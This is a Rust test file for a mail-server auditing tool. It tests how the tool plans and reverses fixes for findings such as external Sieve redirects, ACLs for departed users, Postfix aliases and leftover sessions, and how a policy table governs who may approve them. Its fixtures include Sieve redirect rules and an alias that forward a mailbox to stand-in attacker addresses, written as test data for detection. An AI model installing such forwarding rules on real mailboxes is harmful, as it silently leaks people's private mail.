//! What is planned for a finding, and who may let it happen.

#![allow(clippy::unwrap_used, reason = "a step that fails is a test that fails")]

use mailwarden_evidence::{AclIdentifier, Evidence, Fact, Observation};
use mailwarden_judge::{Finding, Run, judge};
use mailwarden_policy::raci::Forbidden;
use mailwarden_policy::{Policy, Source};
use mailwarden_remedy::{
    Approval, Change, Mandate, Planned, State, Step, Unauthorised, Way, assume, authorise, plan, steps,
};

const NOW: &str = "2026-11-01T12:00:00Z";
const SALES: &str = "sales@example.test";

fn policy() -> Policy {
    let text = include_str!("../../../config/policy/example.toml");
    Policy::compile(&[Source::new("example.toml", text.as_bytes().to_vec())]).unwrap().0
}

fn observed(mailbox: &str, surface: &str, fact: Fact) -> Observation {
    let evidence = Evidence::of(b"raw", "excerpt", "test", NOW.parse().unwrap());
    Observation { mailbox: mailbox.to_owned(), surface: surface.to_owned(), fact, evidence }
}

fn script(name: &str, active: bool, source: &str) -> Observation {
    let fact = Fact::SieveScript {
        name: name.to_owned(),
        active,
        source: source.as_bytes().to_vec(),
        implementation: "Dovecot Pigeonhole".to_owned(),
    };
    observed(SALES, "managesieve.scripts", fact)
}

fn grant(identifier: &str, rights: &str) -> Observation {
    let negative = identifier.starts_with('-');
    let name = identifier.trim_start_matches('-').to_owned();
    let identifier = AclIdentifier::new(name, negative);
    observed(
        SALES,
        "imap.acl",
        Fact::AclEntry { folder: "INBOX".to_owned(), identifier, rights: rights.to_owned() },
    )
}

fn findings(seen: &[Observation]) -> Vec<Finding> {
    let now = NOW.parse().unwrap();
    let run = Run { run_id: "r".to_owned(), tool: "t".to_owned(), started: now, now, surfaces: Vec::new() };
    judge(&run, &policy(), seen, Vec::new()).findings
}

fn planned(seen: &[Observation], check_id: &str, way: Way) -> Planned {
    let findings = findings(seen);
    plan(findings.iter().find(|finding| finding.check_id == check_id).unwrap(), seen, way)
}

fn change(seen: &[Observation], check_id: &str, way: Way) -> Change {
    match planned(seen, check_id, way) {
        Planned::Change(change) => *change,
        other => panic!("{other:?}"),
    }
}

#[test]
fn one_effect_of_a_script_is_switched_off_and_comes_back_to_the_byte() {
    let source =
        "require \"copy\";\r\nredirect :copy \"a@evil.example\";\r\nredirect \"b@evil.example\";\r\n";
    let mut seen = vec![script("main", true, source)];
    let all = findings(&seen);
    let finding = all.iter().find(|finding| finding.beneficiary.value == "b@evil.example").unwrap();
    let Planned::Change(change) = plan(finding, &seen, Way::Effect) else { panic!("no change") };
    assert!(change.diff.contains("-redirect \"b@evil.example\";"), "{}", change.diff);
    let back = steps(&change.after, &change.before).unwrap();
    assert_eq!(back, [Step::PutScript(source.as_bytes().to_vec())]);
    assume(&mut seen, &change);
    let left: Vec<String> = findings(&seen)
        .into_iter()
        .filter(|finding| finding.state == mailwarden_judge::State::Active)
        .map(|finding| finding.beneficiary.value)
        .collect();
    assert_eq!(left, ["a@evil.example"]);
}

#[test]
fn deactivating_keeps_the_script_and_names_what_stops() {
    let seen = [script("main", true, "redirect \"b@evil.example\";")];
    let change = change(&seen, "sieve.redirect-external", Way::Deactivate);
    assert_eq!(change.before, State::Active { name: Some("main".to_owned()) });
    assert_eq!(change.after, State::Active { name: None });
    assert!(!change.side_effects.is_empty());
}

#[test]
fn only_the_one_grant_goes() {
    let seen =
        [grant("bob@example.test", "lr"), grant("omar@example.test", "lrs"), grant("-bob@example.test", "w")];
    let change = change(&seen, "acl.grant-leaver", Way::Effect);
    assert_eq!(
        steps(&change.before, &change.after).unwrap(),
        [Step::DeleteAcl("bob@example.test".to_owned())]
    );
    let negative = planned(&seen, "acl.negative-right", Way::Effect);
    assert!(matches!(negative, Planned::ByHand(_)), "taking away a denial gives rights: {negative:?}");
}

#[test]
fn what_has_no_safe_edit_comes_with_the_command_for_it() {
    let fact = Fact::MapEntry {
        parameter: "virtual_alias_maps".to_owned(),
        table: "hash:/v".to_owned(),
        key: SALES.to_owned(),
        result: "x@evil.example".to_owned(),
        line: None,
        pending: false,
    };
    let seen = [observed("(system)", "postfix.virtual_alias_maps", fact)];
    let Planned::ByHand(by_hand) = planned(&seen, "postfix.alias-external", Way::Effect) else { panic!() };
    assert!(by_hand.command.contains("postmap hash:/v"), "{by_hand:?}");
    assert!(!by_hand.regenerated_by.is_empty());
}

fn asked(raci: &str, executor: &str, approver: Option<&str>) -> Result<String, Unauthorised> {
    let unsigned = approver.map(|approver| (approver, false));
    asked_of(raci, executor, unsigned.as_slice())
}

fn asked_of(raci: &str, executor: &str, approvers: &[(&str, bool)]) -> Result<String, Unauthorised> {
    let seen = [script("main", true, "redirect \"b@evil.example\";")];
    let changes = [change(&seen, "sieve.redirect-external", Way::Effect)];
    let text = format!("{}\n{raci}", include_str!("../../../config/policy/example.toml"));
    let policy = Policy::compile(&[Source::new("example.toml", text.into_bytes())]).unwrap().0;
    let mandate = Mandate {
        executor: executor.parse().unwrap(),
        recorded: executor.to_owned(),
        approvals: approvers
            .iter()
            .map(|(approver, signed)| Approval { approver: approver.parse().unwrap(), signed: *signed })
            .collect(),
        ticket: "T-1".to_owned(),
    };
    authorise(&policy, &changes, mandate, NOW.parse().unwrap()).map(|authorised| authorised.reason())
}

#[test]
fn the_table_of_the_policy_says_who_may() {
    assert_eq!(asked("", "omar@example.test", None).unwrap(), "T-1");
    let not_an_operator = asked("", "jane@example.test", None).unwrap_err();
    assert!(matches!(not_an_operator, Unauthorised::Table(Forbidden::Executor { .. })), "{not_an_operator}");
}

#[test]
fn an_approval_counts_only_from_somebody_who_answers_for_it_and_does_not_execute() {
    let raci = "[raci.change-forwarding]\napprove = [\"client-owner\"]\n";
    let refused = |approver| asked(raci, "omar@example.test", approver).unwrap_err();
    assert!(matches!(refused(None), Unauthorised::Table(Forbidden::Missing { .. })));
    assert!(matches!(refused(Some("x@y.example")), Unauthorised::UnknownApprover(_)));
    assert!(matches!(refused(Some("bob@example.test")), Unauthorised::ApproverLeft(_)));
    assert!(matches!(refused(Some("omar@example.test")), Unauthorised::Table(_)));
    assert!(matches!(refused(Some("olga@example.test")), Unauthorised::Table(Forbidden::Approver { .. })));
    assert_eq!(
        asked(raci, "omar@example.test", Some("jane@example.test")).unwrap(),
        "T-1; approved by jane@example.test"
    );
    let both = "[raci.change-forwarding]\napprove = [\"client-owner\"]\nmay = [\"client-owner\"]\n";
    let own = asked(both, "jane@example.test", Some("jane@example.test")).unwrap_err();
    assert!(matches!(own, Unauthorised::Table(Forbidden::OwnApproval(..))), "{own}");
}

#[test]
fn a_signature_counts_where_the_policy_asks_for_one() {
    let raci = "[raci.change-forwarding]\napprove = [\"client-owner\"]\nsignature = true\n";
    let unsigned = asked(raci, "omar@example.test", Some("jane@example.test")).unwrap_err();
    assert!(matches!(unsigned, Unauthorised::Table(Forbidden::Unsigned(..))), "{unsigned}");
    assert_eq!(
        asked_of(raci, "omar@example.test", &[("jane@example.test", true)]).unwrap(),
        "T-1; approved by jane@example.test (signed)"
    );
    let one_of_two = [("jane@example.test", true), ("bob@example.test", true)];
    let refused = asked_of(raci, "omar@example.test", &one_of_two).unwrap_err();
    assert!(matches!(refused, Unauthorised::ApproverLeft(_)), "{refused}");
}

#[test]
fn what_nobody_can_bring_back_has_no_way_back() {
    let entry = "/private/vendor/vendor.dovecot/imap-urlauth".to_owned();
    let fact = Fact::Metadata { folder: "INBOX".to_owned(), entry, value: "(a key)".to_owned() };
    let mut seen = vec![observed(SALES, "imap.urlauth", fact)];
    let change = change(&seen, "imap.urlauth-key", Way::Effect);
    assert_eq!(steps(&change.before, &change.after), Some(vec![Step::End]));
    assert_eq!(steps(&change.after, &change.before), None);
    assert!(!serde_json::to_string(&change).unwrap().contains("secret"));
    assume(&mut seen, &change);
    assert!(findings(&seen).is_empty());
}

#[test]
fn sessions_of_one_login_end_and_others_stay() {
    let session = |login: &str| Fact::Session {
        login: login.to_owned(),
        service: "imap".to_owned(),
        addresses: vec!["192.0.2.1".to_owned()],
        connections: 2,
    };
    let mut seen: Vec<Observation> = ["bob@example.test", "jane@example.test"]
        .map(|login| observed("(system)", "dovecot.sessions", session(login)))
        .to_vec();
    let change = change(&seen, "session.leaver", Way::Effect);
    assert_eq!(change.diff, "-2 imap\n");
    assume(&mut seen, &change);
    assert_eq!(seen.len(), 1);
}
